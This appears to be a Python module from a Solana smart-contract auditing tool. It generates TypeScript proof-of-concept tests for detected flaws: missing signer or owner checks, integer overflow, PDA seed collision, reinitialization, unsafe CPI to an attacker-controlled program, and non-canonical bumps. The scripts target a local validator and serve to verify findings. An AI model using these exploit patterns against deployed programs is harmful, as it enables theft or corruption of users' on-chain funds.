"""
POC templates: one exploit scenario per supported detector.

A template fills a PocScript with setup, invocation and assertion lines for
one finding. Rendering the full TypeScript file (imports, keypairs, the
mocha skeleton) is done by the synthesizer, so every template only decides
what is specific to its vulnerability class.
"""

import re
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from solders.pubkey import Pubkey

from ..analysis.models import (
    AccountContext,
    AccountField,
    AccountKind,
    ConstraintKind,
    Instruction,
    Parameter,
    PdaDerivation,
    Program,
    Seed,
    SeedKind,
    Verification,
    constraint_derivation,
)
from ..report.finding import Finding, compute_fingerprint
from .keys import account_pubkey, constant_pda, keypair_for, secret_bytes

INTEGER_MAX = {
    "u8": "255",
    "u16": "65535",
    "u32": "4294967295",
    "i8": "127",
    "i16": "32767",
    "i32": "2147483647",
}
BIG_INTEGERS = {"u64", "i64", "u128", "i128", "usize", "isize"}
BIG_MAX = {
    "u64": "U64_MAX",
    "usize": "U64_MAX",
    "i64": "I64_MAX",
    "isize": "I64_MAX",
    "u128": "U128_MAX",
    "i128": "I128_MAX",
}
BIG_MAX_VALUES = {
    "U64_MAX": "18446744073709551615",
    "I64_MAX": "9223372036854775807",
    "U128_MAX": "340282366920938463463374607431768211455",
    "I128_MAX": "170141183460469231731687303715884105727",
}

WELL_KNOWN_PROGRAMS = {
    "System": "SystemProgram.programId",
    "Token": "TOKEN_PROGRAM_ID",
    "TokenInterface": "TOKEN_PROGRAM_ID",
    "Token2022": "TOKEN_2022_PROGRAM_ID",
    "AssociatedToken": "ASSOCIATED_TOKEN_PROGRAM_ID",
}
WELL_KNOWN_SYSVARS = {
    "Rent": "SYSVAR_RENT_PUBKEY",
    "Clock": "SYSVAR_CLOCK_PUBKEY",
}
SPL_TOKEN_IDS = ("TOKEN_PROGRAM_ID", "TOKEN_2022_PROGRAM_ID", "ASSOCIATED_TOKEN_PROGRAM_ID")


def camel(name: str) -> str:
    head, *rest = name.split("_")
    return head + "".join(part[:1].upper() + part[1:] for part in rest)


def pascal(name: str) -> str:
    return "".join(part[:1].upper() + part[1:] for part in name.split("_"))


@dataclass(frozen=True)
class PocTarget:
    """The model slice a finding points at."""
    finding: Finding
    program: Program
    instruction: Optional[Instruction]
    context: Optional[AccountContext]
    field: Optional[AccountField]
    program_id: Pubkey


@dataclass
class PocScript:
    """A script under construction; one instance per synthesized finding."""
    target: PocTarget
    setup: List[str] = field(default_factory=list)
    body: List[str] = field(default_factory=list)
    keypairs: Dict[str, List[int]] = field(default_factory=dict)
    constants: Dict[str, str] = field(default_factory=dict)
    token_ids: List[str] = field(default_factory=list)
    preconditions: List[str] = field(default_factory=list)
    steps: List[Tuple[str, str, str]] = field(default_factory=list)
    snapshots: bool = False

    @property
    def fingerprint(self) -> str:
        return self.target.finding.fingerprint

    def keypair(self, role: str) -> str:
        """Declare a deterministic keypair and return its variable name."""
        name = camel(role)
        if name not in self.keypairs:
            self.keypairs[name] = secret_bytes(keypair_for(self.fingerprint, role))
        return name

    def placeholder(self, name: str) -> str:
        return f'new PublicKey("{account_pubkey(self.fingerprint, name)}")'

    def big(self, constant: str) -> str:
        self.constants[constant] = f'new BN("{BIG_MAX_VALUES[constant]}")'
        return constant

    def program_constant(self, constant: str) -> str:
        if constant in SPL_TOKEN_IDS and constant not in self.token_ids:
            self.token_ids.append(constant)
        return constant


# ----------------------------------------------------------------------
# Shared rendering
# ----------------------------------------------------------------------

def _scalar(param_type: str) -> str:
    base = re.sub(r"\s+", "", param_type)
    return base.rsplit("::", 1)[-1]


def render_argument(script: PocScript, param: Parameter, maximal: bool = False) -> str:
    """A TypeScript value for an instruction argument."""
    kind = _scalar(param.type)
    if kind in INTEGER_MAX:
        return INTEGER_MAX[kind] if maximal else "1"
    if kind in BIG_INTEGERS:
        return script.big(BIG_MAX[kind]) if maximal else "new BN(1_000_000)"
    if kind == "bool":
        return "true"
    if kind in ("String", "&str"):
        return '"sentinel"'
    if kind == "Pubkey":
        return f"{script.keypair('attacker')}.publicKey"
    if kind.startswith("Option<"):
        return "null"
    if kind == "Vec<u8>":
        return "Buffer.from([])"
    array = re.match(r"^\[u8;(\d+)\]$", kind)
    if array:
        return f"Array({array.group(1)}).fill(0)"
    return "{} as any"


def render_seed(script: PocScript, seed: Seed, accounts: Dict[str, str], empty: bool = False) -> str:
    if seed.kind == SeedKind.CONSTANT:
        if re.match(r"^\[?\d", seed.value):
            return f"Buffer.from([{re.sub(r'[^0-9,]', '', seed.value)}])"
        return f'Buffer.from("{seed.value}")'
    if seed.kind == SeedKind.ACCOUNT_KEY:
        expr = accounts.get(seed.value) or script.placeholder(seed.value)
        return f"{expr}.toBuffer()"
    if empty:
        return 'Buffer.from("")'
    return 'Buffer.from("sentinel")'


def render_seeds(script: PocScript, seeds: Tuple[Seed, ...], accounts: Dict[str, str], empty_from: int = -1) -> str:
    parts = [
        render_seed(script, seed, accounts, empty=0 <= empty_from <= i)
        for i, seed in enumerate(seeds)
    ]
    return "[" + ", ".join(parts) + "]"


def default_account(script: PocScript, f: AccountField) -> str:
    """The value a well-formed call would pass for a context field."""
    target = script.target
    if f.kind in (AccountKind.PROGRAM, AccountKind.INTERFACE) or f.name == "system_program":
        known = WELL_KNOWN_PROGRAMS.get(f.inner_type or "")
        if known is None and f.name == "system_program":
            known = "SystemProgram.programId"
        if known is not None:
            return script.program_constant(known) if known in SPL_TOKEN_IDS else known
        return script.placeholder(f.name)
    if f.kind == AccountKind.SYSVAR:
        return WELL_KNOWN_SYSVARS.get(f.inner_type or "", script.placeholder(f.name))
    if f.is_init and not f.is_pda:
        return f"{script.keypair(f.name)}.publicKey"
    if f.is_signer:
        return f"{script.keypair('attacker')}.publicKey"
    if f.is_pda and target.context is not None:
        derivation = constraint_derivation(target.program.name, target.context, f, dict(target.program.constants))
        if derivation is not None:
            address = constant_pda(derivation.seeds, target.program_id)
            if address is not None:
                return f'new PublicKey("{address}")'
    return script.placeholder(f.name)


def invocation(
    script: PocScript,
    overrides: Optional[Dict[str, str]] = None,
    arguments: Optional[Dict[str, str]] = None,
    maximal: bool = False,
    result: str = "sig",
) -> List[str]:
    """`program.methods.<ix>(...).accounts({...}).signers([...]).rpc()` for the target instruction."""
    target = script.target
    ix = target.instruction
    overrides = overrides or {}
    arguments = arguments or {}

    args = [
        arguments.get(p.name) or render_argument(script, p, maximal=maximal)
        for p in ix.parameters
    ]
    lines = [f"const {result} = await program.methods", f"    .{camel(ix.name)}({', '.join(args)})"]

    signers: List[str] = []
    if target.context is not None:
        lines.append("    .accounts({")
        for f in target.context.fields:
            value = overrides.get(f.name) or default_account(script, f)
            lines.append(f"        {camel(f.name)}: {value},")
            keypair = value[: -len(".publicKey")] if value.endswith(".publicKey") else None
            if keypair in script.keypairs and (f.is_signer or (f.is_init and not f.is_pda)):
                if keypair not in signers:
                    signers.append(keypair)
        lines.append("    })")
    if signers:
        lines.append(f"    .signers([{', '.join(signers)}])")
    lines.append("    .rpc();")
    return lines


def account_values(script: PocScript) -> Dict[str, str]:
    ctx = script.target.context
    if ctx is None:
        return {}
    return {f.name: default_account(script, f) for f in ctx.fields}


def watched_accounts(
    script: PocScript,
    overrides: Optional[Dict[str, str]] = None,
    include: Tuple[str, ...] = (),
) -> List[str]:
    """Addresses of the writable accounts (plus `include`) exactly as the invocation passes them."""
    ctx = script.target.context
    if ctx is None:
        return []
    overrides = overrides or {}
    watched: List[str] = []
    for f in ctx.fields:
        if not (f.is_writable or f.name in include):
            continue
        value = overrides.get(f.name) or default_account(script, f)
        if value not in watched:
            watched.append(value)
    return watched


def state_change(script: PocScript, invoke: List[str], watched: List[str], note: str) -> List[str]:
    """Wrap an invocation in before/after snapshots and assert that state moved."""
    if not watched:
        return invoke + ["", f"// {note}", "expect(sig).to.be.a(\"string\");"]
    script.snapshots = True
    keys = ", ".join(watched)
    return (
        [f"const before = await snapshot([{keys}]);"]
        + invoke
        + [
            f"const after = await snapshot([{keys}]);",
            "",
            f"// {note}",
            "expect(after).to.not.deep.equal(before);",
        ]
    )


# ----------------------------------------------------------------------
# Templates
# ----------------------------------------------------------------------

def missing_signer(script: PocScript) -> None:
    target = script.target
    name = target.field.name
    victim = script.keypair("victim")
    script.preconditions += [
        f"Program `{target.program.name}` is deployed to the local validator",
        f"`{name}` holds the victim's public key; the victim does not sign",
        "The attacker is funded and signs as fee payer",
    ]
    script.setup.append(f"// `{name}` is the victim's key, but only the attacker signs")
    overrides = {name: f"{victim}.publicKey"}
    script.body += state_change(
        script,
        invocation(script, overrides=overrides),
        watched_accounts(script, overrides, include=(name,)),
        "The program acted on the victim's accounts without the victim's signature",
    )
    script.steps += [
        ("A", "P", f"{target.instruction.name}({name} = victim, unsigned)"),
        ("P", "P", f"no signer check on {name}"),
        ("P", "A", "privileged action executed"),
    ]


def missing_owner(script: PocScript) -> None:
    target = script.target
    name = target.field.name
    attacker = script.keypair("attacker")
    fake = script.keypair("fake_account")
    script.preconditions += [
        f"Program `{target.program.name}` is deployed to the local validator",
        f"A fake `{name}` account owned by the System Program is created by the attacker",
    ]
    script.setup += [
        "// Forge an account the program never owned",
        "const space = 256;",
        "const lamports = await provider.connection.getMinimumBalanceForRentExemption(space);",
        "await provider.sendAndConfirm(",
        "    new anchor.web3.Transaction().add(",
        "        SystemProgram.createAccount({",
        f"            fromPubkey: {attacker}.publicKey,",
        f"            newAccountPubkey: {fake}.publicKey,",
        "            lamports,",
        "            space,",
        "            programId: SystemProgram.programId,",
        "        })",
        "    ),",
        f"    [{attacker}, {fake}]",
        ");",
    ]
    script.body += invocation(script, overrides={name: f"{fake}.publicKey"})
    script.body += [
        "",
        f"// `{name}` was accepted although it is owned by the System Program",
        f"const info = await provider.connection.getAccountInfo({fake}.publicKey);",
        "expect(info!.owner.toBase58()).to.equal(SystemProgram.programId.toBase58());",
        "expect(sig).to.be.a(\"string\");",
    ]
    script.steps += [
        ("A", "S", "create fake account with forged data"),
        ("A", "P", f"{target.instruction.name}({name} = fake)"),
        ("P", "A", "forged data trusted"),
    ]


def integer_overflow(script: PocScript) -> None:
    target = script.target
    ix = target.instruction
    script.preconditions += [
        f"Program `{target.program.name}` is deployed to the local validator",
        "Any state the instruction reads is initialized",
    ]
    script.setup.append("// Every integer argument is set to its maximum so the unchecked operation wraps")
    script.body += state_change(
        script,
        invocation(script, maximal=True),
        watched_accounts(script),
        "The instruction stored a wrapped result instead of failing on overflow",
    )
    script.steps += [
        ("A", "P", f"{ix.name}(u64::MAX)"),
        ("P", "P", "unchecked arithmetic wraps"),
        ("P", "A", "balance or supply corrupted"),
    ]


def colliding_pair(target: PocTarget) -> Optional[Tuple[PdaDerivation, PdaDerivation]]:
    """The (shorter, longer) derivation pair a V004 finding was produced from."""
    from ..detectors.pda import colliding_pairs, derivation_location

    finding = target.finding
    for other, reported in colliding_pairs(target.program):
        location = derivation_location(target.program, reported)
        if location is None:
            continue
        fingerprint = compute_fingerprint(
            finding.detector_id, target.program.name, location.instruction, location.site_kind,
            "|".join(sorted([other.site, reported.site])),
        )
        if fingerprint == finding.fingerprint:
            return other, reported
    return None


def seed_collision(script: PocScript) -> None:
    target = script.target
    pair = colliding_pair(target)
    if pair is None:
        raise LookupError(f"no colliding derivations match {target.finding.fingerprint}")
    short, long = pair
    accounts = account_values(script)
    script.preconditions.append(f"Program `{target.program.name}` is deployed to the local validator")
    script.setup += [
        f"// {short.site}: {short.seed_text}",
        f"// {long.site}: {long.seed_text}",
        f"const shortSeeds = {render_seeds(script, short.seeds, accounts)};",
        f"const longSeeds = {render_seeds(script, long.seeds, accounts, empty_from=len(short.seeds))};",
    ]
    script.body += [
        "const [first] = PublicKey.findProgramAddressSync(shortSeeds, program.programId);",
        "const [second] = PublicKey.findProgramAddressSync(longSeeds, program.programId);",
        "",
        "// Both derivations resolve to the same address",
        "expect(first.toBase58()).to.equal(second.toBase58());",
    ]
    script.steps += [
        ("A", "A", "choose an empty trailing seed"),
        ("A", "P", f"pass {long.site} where {short.site} is expected"),
        ("P", "A", "one account stands in for the other"),
    ]


def reinitialization(script: PocScript) -> None:
    target = script.target
    f = target.field
    ix = target.instruction
    script.preconditions.append(f"Program `{target.program.name}` is deployed to the local validator")

    if f.has(ConstraintKind.INIT_IF_NEEDED):
        script.preconditions.append(f"`{f.name}` is initialized once by a legitimate user")
        script.setup.append(f"// Initialize `{f.name}`, then initialize it again")
        script.body += invocation(script, result="first")
        script.body += invocation(script, result="second")
        script.body += [
            "",
            "// The second initialization succeeded and reset existing state",
            "expect(first).to.be.a(\"string\");",
            "expect(second).to.be.a(\"string\");",
        ]
        script.steps += [
            ("U", "P", f"{ix.name}() initializes {f.name}"),
            ("A", "P", f"{ix.name}() again"),
            ("P", "A", f"{f.name} state overwritten"),
        ]
        return

    space = f.argument_of(ConstraintKind.SPACE) or ""
    address = default_account(script, f)
    script.setup.append(f"// `space = {space}` leaves no room for the 8-byte discriminator")
    script.body += invocation(script)
    script.body += [
        "",
        f"const info = await provider.connection.getAccountInfo({address});",
        "expect(info).to.not.be.null;",
    ]
    if re.match(r"^[\d_ +*]+$", space):
        script.body.append(
            f"expect(info!.data.length).to.equal({space.replace('_', '')});"
        )
    script.body.append(f"// Deserializing `{f.inner_type}` from this account reads past its data")
    script.steps += [
        ("A", "P", f"{ix.name}() allocates {f.name} with space = {space}"),
        ("P", "P", "discriminator overlaps account data"),
        ("P", "A", f"{f.name} fields misread"),
    ]


def unsafe_cpi(script: PocScript) -> None:
    target = script.target
    ix = target.instruction
    line = target.finding.location.line
    cpis = [c for c in ix.cpi_calls if c.location.line == line and c.verification != Verification.VERIFIED]
    cpi = cpis[0] if cpis else (ix.cpi_calls[0] if ix.cpi_calls else None)
    malicious = account_pubkey(script.fingerprint, "malicious_program")
    script.preconditions += [
        f"Program `{target.program.name}` is deployed to the local validator",
        f"A program controlled by the attacker is deployed at {malicious}",
    ]
    script.setup.append(f'const maliciousProgram = new PublicKey("{malicious}");')

    overrides: Dict[str, str] = {}
    arguments: Dict[str, str] = {}
    if cpi is not None and cpi.program_account and target.context is not None and target.context.field(cpi.program_account):
        overrides[cpi.program_account] = "maliciousProgram"
        swapped = cpi.program_account
    else:
        keys = [p for p in ix.parameters if _scalar(p.type) == "Pubkey"]
        for p in keys:
            arguments[p.name] = "maliciousProgram"
        swapped = keys[0].name if keys else (cpi.program if cpi is not None else "program id")
    script.body += invocation(script, overrides=overrides, arguments=arguments)
    script.body += [
        "",
        "// The CPI was routed to the attacker's program",
        "const tx = await provider.connection.getTransaction(sig, {",
        '    commitment: "confirmed",',
        "    maxSupportedTransactionVersion: 0,",
        "});",
        "const invoked = `Program ${maliciousProgram.toBase58()} invoke`;",
        "expect(tx!.meta!.logMessages!.some((entry) => entry.startsWith(invoked))).to.be.true;",
    ]
    script.steps += [
        ("A", "P", f"{ix.name}({swapped} = malicious program)"),
        ("P", "M", "invoke with the caller's accounts"),
        ("M", "A", "attacker code runs with forwarded privileges"),
    ]


def missing_bump(script: PocScript) -> None:
    target = script.target
    derivation = _derivation_for(target)
    accounts = account_values(script)
    script.preconditions.append(f"Program `{target.program.name}` is deployed to the local validator")
    seeds = render_seeds(script, derivation.seeds, accounts) if derivation is not None else "[]"
    script.setup += [
        f"const seeds = {seeds};",
        "const [canonical, canonicalBump] = PublicKey.findProgramAddressSync(seeds, program.programId);",
        "let alternate: PublicKey | null = null;",
        "for (let bump = canonicalBump - 1; bump >= 0 && alternate === null; bump--) {",
        "    try {",
        "        alternate = PublicKey.createProgramAddressSync([...seeds, Buffer.from([bump])], program.programId);",
        "    } catch (e) {",
        "        // this bump lands on the curve; try the next one",
        "    }",
        "}",
        "expect(alternate).to.not.be.null;",
        "expect(alternate!.equals(canonical)).to.be.false;",
    ]
    if target.instruction is not None and target.field is not None:
        overrides = {target.field.name: "alternate!"}
        script.body += state_change(
            script,
            invocation(script, overrides=overrides),
            watched_accounts(script, overrides, include=(target.field.name,)),
            "A non-canonical PDA was accepted and the program wrote through it",
        )
        call = f"{target.instruction.name}({target.field.name} = non-canonical PDA)"
    else:
        script.body.append("// Any instruction that trusts this derivation accepts `alternate` as well")
        call = f"derive {derivation.site if derivation else 'PDA'} with a non-canonical bump"
    script.steps += [
        ("A", "A", "search bumps below the canonical one"),
        ("A", "P", call),
        ("P", "A", "second valid address accepted"),
    ]


def _derivation_for(target: PocTarget) -> Optional[PdaDerivation]:
    for derivation in target.program.derivations:
        if target.field is not None and derivation.context == target.context.name \
                and derivation.field == target.field.name:
            return derivation
        if target.field is None and target.instruction is not None \
                and derivation.instruction == target.instruction.name \
                and derivation.location.line == target.finding.location.line:
            return derivation
    return None


Template = Callable[[PocScript], None]

TEMPLATES: Dict[str, Template] = {
    "V001": missing_signer,
    "V002": missing_owner,
    "V003": integer_overflow,
    "V004": seed_collision,
    "V005": reinitialization,
    "V006": unsafe_cpi,
    "V008": missing_bump,
}

# Templates that need an instruction to call
NEEDS_INSTRUCTION = {"V001", "V002", "V003", "V005", "V006"}
